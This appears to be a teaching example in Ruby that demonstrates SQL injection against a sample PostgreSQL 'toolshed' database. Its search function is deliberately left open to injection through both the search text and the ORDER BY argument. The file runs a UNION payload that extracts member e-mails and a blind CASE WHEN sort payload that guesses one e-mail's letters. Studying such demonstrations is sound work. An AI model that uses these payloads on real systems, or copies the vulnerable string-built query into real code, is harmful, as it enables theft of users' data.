# database: postgresql
# needs: ../../databases/samples/toolshed.sql
# insecure: inj-search.rb
# Insecure: what a visitor typed becomes a part of the SQL.
require "pg"

UNION = "x' UNION SELECT email FROM member ORDER BY 1 --"
GUESS = <<~SQL
  CASE WHEN (SELECT email FROM member WHERE id = 4) LIKE '%s%%'
  THEN daily_fee ELSE -daily_fee END
SQL

def search(connection, text, sort = "name")
  sql = "SELECT name FROM tool WHERE name LIKE '%#{text}%' ORDER BY #{sort}"
  connection.exec(sql).column_values(0)
end

connection = PG.connect
puts "honest: #{search(connection, 'drill').join(', ')}"
puts "UNION: #{search(connection, UNION).join(', ')}"
%w[a d].each do |letter|
  first = search(connection, "", format(GUESS, letter)).first
  puts "does the e-mail begin with #{letter}? first is #{first}"
end
